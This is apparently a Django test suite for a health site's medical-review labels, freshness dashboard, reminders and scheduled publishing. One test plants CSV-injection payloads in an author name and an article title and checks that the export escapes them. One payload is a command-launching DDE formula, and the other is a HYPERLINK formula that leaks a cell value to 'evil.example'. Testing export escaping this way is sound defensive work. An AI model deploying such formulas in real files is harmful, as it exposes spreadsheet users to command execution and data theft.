"""Medical review: honest review dates on the page and in JSON-LD, re-review after substantive
edits, the freshness dashboard, reminders once each, and publication at the scheduled minute."""

import csv
import io
import json
import re
from datetime import date, timedelta

import pytest
from django.core import mail
from django.urls import reverse
from django.utils import timezone
from freezegun import freeze_time

from articles.models import Article, Revision
from articles.revisions import save_article
from reviews.freshness import add_months, freshness_report
from reviews.models import MedicalReview
from reviews.reminders import send_digests
from tests.factories import make_article, make_review, make_tag

pytestmark = pytest.mark.django_db


def json_ld(html):
    blocks = re.findall(r'<script type="application/ld\+json">(.*?)</script>', html, re.S)
    return [json.loads(block) for block in blocks]


def article_data(client, article):
    html = client.get(article.get_absolute_url()).content.decode()
    return html, next(d for d in json_ld(html) if "headline" in d)


def test_the_page_says_who_reviewed_when_and_when_the_next_review_is_due(
    client, article, clinician
):
    make_review(article, clinician, on=date(2026, 3, 3))
    html, data = article_data(client, article)
    assert "Medically reviewed by" in html and "Maya Okafor, MD, MPH" in html
    assert 'on <time datetime="2026-03-03">3 March 2026</time>' in html
    assert "Next review due March 2027" in html
    assert 'href="/pages/how-we-review/"' in html
    assert data["lastReviewed"] == "2026-03-03"
    assert data["reviewedBy"] == {
        "@type": "Person", "name": "Maya Okafor", "honorificSuffix": "MD, MPH",
        "url": "http://testserver/authors/maya-okafor/",
    }  # fmt: skip


def test_an_overdue_review_is_not_presented_as_upcoming(client, article, clinician):
    make_review(article, clinician, on=date(2025, 11, 14))
    with freeze_time("2026-11-14 12:00"):
        html, _ = article_data(client, article)
    assert "Next review due November 2026" in html and "overdue" not in html
    with freeze_time("2026-12-02 12:00"):
        html, data = article_data(client, article)
    assert "Next review due" not in html
    assert "Review overdue since November 2026" in html
    assert "Ask a health professional before acting on it" in html
    # JSON-LD states only what is true: the date of the last review, and no promise of one.
    assert data["lastReviewed"] == "2025-11-14"
    assert "November 2026" not in json.dumps(data)


def test_a_never_reviewed_article_claims_no_review(client, article):
    html, data = article_data(client, article)
    assert "Medically reviewed" not in html
    assert "lastReviewed" not in data and "reviewedBy" not in data


def test_a_no_change_review_moves_last_reviewed_not_last_updated(client, editor, clinician, author):
    article = make_article(author, published_at=timezone.now() - timedelta(days=400))
    article.updated_at = timezone.now() - timedelta(days=300)
    article.save(update_fields=["updated_at"])
    before_html, before = article_data(client, article)
    client.force_login(clinician.user)
    response = client.post(
        reverse("admin:reviews_medicalreview_add"),
        {"article": article.pk,
         "reviewed_on": timezone.localdate().isoformat(), "outcome": "no_changes",
         "notes": "Checked against the 2026 guideline."},
    )  # fmt: skip
    assert response.status_code == 302
    client.logout()
    after_html, after = article_data(client, article)
    assert after["dateModified"] == before["dateModified"]
    assert after["lastReviewed"] == timezone.localdate().isoformat() != after["dateModified"][:10]
    assert "Last updated" in before_html and re.findall(
        r"Last updated[^<]*<time[^>]*>[^<]*", after_html
    ) == re.findall(r"Last updated[^<]*<time[^>]*>[^<]*", before_html)  # noqa: E501
    review = MedicalReview.objects.get()
    assert review.revision == article.revisions.order_by("-number").first()
    assert review.recorded_by == clinician.user and review.reviewer == clinician
    assert "Checked against" not in after_html  # newsroom notes stay in the newsroom


def test_reviews_are_append_only_in_the_admin(client, editor, article, clinician):
    review = make_review(article, clinician)
    client.force_login(editor)
    url = reverse("admin:reviews_medicalreview_change", args=[review.pk])
    assert client.post(url, {"outcome": "updated"}).status_code == 403
    delete = reverse("admin:reviews_medicalreview_delete", args=[review.pk])
    assert client.post(delete, {"post": "yes"}).status_code == 403
    assert MedicalReview.objects.get().outcome == "no_changes"


def test_a_substantive_edit_after_review_needs_a_new_review_and_a_minor_one_does_not(
    article, clinician, editor
):
    make_review(article, clinician)
    article.body = article.body.replace("First", "Frist")
    save_article(article, editor=editor, change_note="Typo", minor=True)
    assert freshness_report()["changed"] == []
    article.body += "<p>New advice.</p>"
    save_article(article, editor=editor, change_note="New advice.")
    [state] = freshness_report()["changed"]
    assert state.article == article
    assert state.last_reviewed_on == timezone.localdate()  # the public line keeps the true date


def test_the_dashboard_sorts_articles_by_what_needs_doing(client, editor, author, clinician):
    today = timezone.localdate()
    overdue = make_article(author, title="Overdue")
    make_review(overdue, clinician, on=today - timedelta(days=400))
    soon = make_article(author, title="Due soon")
    make_review(soon, clinician, on=add_months(today, -12) + timedelta(days=10))
    fresh = make_article(author, title="Fresh")
    make_review(fresh, clinician, on=today)
    never = make_article(author, title="Never reviewed")
    stale = make_article(author, title="Stale", published_at=timezone.now() - timedelta(days=2000))
    Article.objects.filter(pk=stale.pk).update(updated_at=timezone.now() - timedelta(days=1900))

    client.force_login(editor)
    html = client.get(reverse("admin:reviews_freshness")).content.decode()
    sections = {name: html.split(f'id="{name}"')[1].split("<h2")[0] for name in
                ("overdue", "due_soon", "changed", "never", "stale")}  # fmt: skip
    assert "Overdue" in sections["overdue"] and "Due soon" in sections["due_soon"]
    assert "Never reviewed" in sections["never"] and "Stale" in sections["stale"]
    assert "Fresh" not in html.split('id="overdue"')[1]
    assert never.title not in sections["overdue"]
    csv = client.get(reverse("admin:reviews_freshness"), {"format": "csv"})
    assert csv["Content-Type"].startswith("text/csv")
    assert "Review overdue,Overdue" in csv.content.decode()
    filtered = client.get(reverse("admin:reviews_freshness"), {"author": "nobody"})
    assert "Overdue" not in filtered.content.decode().split('id="overdue"')[1]


def test_the_csv_export_holds_no_live_formula(client, editor, author):
    """Titles and names arrive from WordPress imports; a spreadsheet must show them as text."""
    author.name = "@SUM(1+1)*cmd|' /C calc'!A0"
    author.save()
    title = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    make_article(author, title=title)
    for start in ("+1 for sleep", "-5 kg in a week"):  # titles lose leading tabs and returns
        make_article(author, title=start)
    client.force_login(editor)
    export = client.get(reverse("admin:reviews_freshness"), {"format": "csv"})
    rows = list(csv.reader(io.StringIO(export.content.decode(), newline="")))
    cells = [cell for row in rows[1:] for cell in row[1:3]]
    assert "'" + title in cells and "'" + author.byline in cells
    assert {"'+1 for sleep", "'-5 kg in a week"} <= set(cells)
    assert not [
        cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")
    ]


def test_the_dashboard_is_for_editors_and_reviewers_only(client, reader, moderator, clinician):
    url = reverse("admin:reviews_freshness")
    client.force_login(moderator)
    assert client.get(url).status_code == 403
    client.force_login(clinician.user)
    assert client.get(url).status_code == 200


def bulk_articles(author, tag, count):
    articles = Article.objects.bulk_create(
        Article(title=f"Bulk {n}", slug=f"bulk-{n}-{count}", body="<p>x</p>", author=author,
                status="published", published_at=timezone.now() - timedelta(days=n),
                updated_at=timezone.now() - timedelta(days=n))
        for n in range(count)
    )  # fmt: skip
    Revision.objects.bulk_create(
        Revision(article=a, number=1, snapshot={}, is_minor=False) for a in articles
    )
    Article.tags.through.objects.bulk_create(
        Article.tags.through(article=a, tag=tag) for a in articles
    )
    return articles


def test_the_dashboard_query_count_does_not_grow(client, editor, author, django_assert_num_queries):
    tag = make_tag("Bulk")
    client.force_login(editor)
    bulk_articles(author, tag, 10)
    url = reverse("admin:reviews_freshness")
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as few:
        assert client.get(url, {"tag": "topic-1"}).status_code == 200
    bulk_articles(author, tag, 490)
    with django_assert_num_queries(len(few)):
        assert client.get(url, {"tag": "topic-1"}).status_code == 200


def test_reminders_go_once_to_each_reviewer_before_and_on_the_due_date(article, clinician):
    article.reviewer = clinician
    article.save(update_fields=["reviewer"])
    reviewed = date(2025, 3, 10)
    make_review(article, clinician, on=reviewed)
    with freeze_time("2026-01-01"):
        assert send_digests() == 0  # not due for months
    with freeze_time("2026-02-20"):
        assert send_digests() == 1  # within 30 days of 10 March 2026
        assert send_digests() == 0  # the job ran twice: nothing twice
    assert len(mail.outbox) == 1
    assert "Coming up" in mail.outbox[0].body and article.title in mail.outbox[0].body
    assert mail.outbox[0].to == ["drmaya@example.com"]
    with freeze_time("2026-03-10"):
        assert send_digests() == 1  # on the due date
        assert send_digests() == 0
    assert "Due now" in mail.outbox[1].body


def test_reviewers_can_opt_out_of_reminders(article, clinician):
    make_review(article, clinician, on=date(2025, 1, 1))
    clinician.user.notify_on_review_due = False
    clinician.user.save(update_fields=["notify_on_review_due"])
    with freeze_time("2026-01-05"):
        assert send_digests() == 0
    assert mail.outbox == []


def test_a_reviewer_page_lists_what_they_reviewed(client, article, clinician):
    make_review(article, clinician)
    html = client.get(clinician.get_absolute_url()).content.decode()
    assert "Articles medically reviewed by Maya Okafor" in html
    assert article.title in html


def test_a_reviewer_page_follows_their_reviews_and_the_articles_at_once(
    client, author, editor, clinician
):
    """The list is kept rendered (review_tags.reviewed_by): each change below shows on the very
    next request, without anything else touching the reviewer's page."""
    first = make_article(author, title="Is a daily walk enough?")
    second = make_article(author, title="Do standing desks help?")
    make_review(first, clinician)
    url = clinician.get_absolute_url()
    assert "Is a daily walk enough?" in client.get(url).content.decode()
    assert "Do standing desks help?" not in client.get(url).content.decode()

    make_review(second, clinician)
    assert "Do standing desks help?" in client.get(url).content.decode()

    second.title = "Do standing desks help your back?"
    save_article(second, editor=editor, change_note="A clearer headline.")
    assert "Do standing desks help your back?" in client.get(url).content.decode()

    author.name = "Sam Rivera-Jones"
    author.save()
    assert "Sam Rivera-Jones" in client.get(url).content.decode()

    first.status = Article.Status.ARCHIVED
    save_article(first, editor=editor, change_note="Archived.")
    html = client.get(url).content.decode()
    assert "Is a daily walk enough?" not in html and "Do standing desks help your back?" in html


def test_a_scheduled_article_goes_public_at_its_minute_and_not_before(client, author, editor):
    tag = make_tag("Sleep")
    moment = timezone.now().replace(second=0, microsecond=0) + timedelta(days=1)
    scheduled = make_article(author, title="Tomorrow's news", published_at=moment, tags=[tag])
    other = make_article(author, title="Older piece", tags=[tag])
    other.related.add(scheduled)
    surfaces = ["/", tag.get_absolute_url(), author.get_absolute_url(), "/sitemap.xml",
                other.get_absolute_url()]  # fmt: skip
    with freeze_time(moment - timedelta(minutes=1)):
        assert client.get(scheduled.get_absolute_url()).status_code == 404
        for url in surfaces:
            assert scheduled.get_absolute_url() not in client.get(url).content.decode(), url
    with freeze_time(moment + timedelta(minutes=1)):
        assert client.get(scheduled.get_absolute_url()).status_code == 200
        for url in surfaces:
            assert scheduled.get_absolute_url() in client.get(url).content.decode(), url


def test_editors_see_scheduled_articles_as_scheduled_and_can_preview_them(client, editor, author):
    moment = timezone.now() + timedelta(days=1)
    scheduled = make_article(author, title="Coming soon", published_at=moment)
    client.force_login(editor)
    listing = client.get(reverse("admin:articles_article_changelist")).content.decode()
    assert "Scheduled for" in listing and "(UTC)" in listing
    preview = client.get(scheduled.get_absolute_url())
    assert preview.status_code == 200
    assert "Preview: not public" in preview.content.decode()
    assert "no-store" in preview["Cache-Control"]


@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_publication_tasks_run_once_at_the_scheduled_minute(settings, author):
    from django.core.management import call_command
    from django_tasks_db.models import DBTaskResult

    from articles.publishing import article_went_live

    settings.TASKS = {
        "default": {"BACKEND": "django_tasks_db.DatabaseBackend", "QUEUES": ["default", "email"]}
    }
    announced = []
    article_went_live.connect(lambda sender, article, **kw: announced.append(article.pk),
                              weak=False, dispatch_uid="test-announced")  # fmt: skip
    moment = timezone.now().replace(microsecond=0) + timedelta(minutes=5)
    article = make_article(author, title="Scheduled", published_at=moment)
    task = DBTaskResult.objects.get()
    assert task.run_after == moment  # queued for the publication minute, not polled for

    def worker():
        call_command("db_worker", "--batch", "--no-startup-delay", "--queue-name", "*",
                     verbosity=0)  # fmt: skip

    worker()
    assert announced == []  # not yet due
    DBTaskResult.objects.update(run_after=timezone.now())
    with freeze_time(moment - timedelta(seconds=30)):
        worker()  # woken early: the article is not public yet, so nothing happens
    assert announced == []
    article.title = "Scheduled piece"
    save_article(article, change_note="Retitled.")  # every save queues the announcement again
    DBTaskResult.objects.update(run_after=timezone.now())
    with freeze_time(moment + timedelta(seconds=30)):
        worker()
    assert announced == [article.pk]  # once, however many tasks were queued
    article_went_live.disconnect(dispatch_uid="test-announced")


def test_a_reviewer_opts_out_of_reminders_on_their_account_page(client, clinician):
    client.force_login(clinician.user)
    page = client.get(reverse("comments:preferences")).content.decode()
    assert "Email me when my medical reviews are coming due" in page
    client.post(reverse("comments:preferences"), {"notify_on_reply": "on"})
    clinician.user.refresh_from_db()
    assert clinician.user.notify_on_reply and not clinician.user.notify_on_review_due


def test_readers_are_not_offered_review_reminders(client, reader):
    client.force_login(reader)
    page = client.get(reverse("comments:preferences")).content.decode()
    assert "medical reviews" not in page
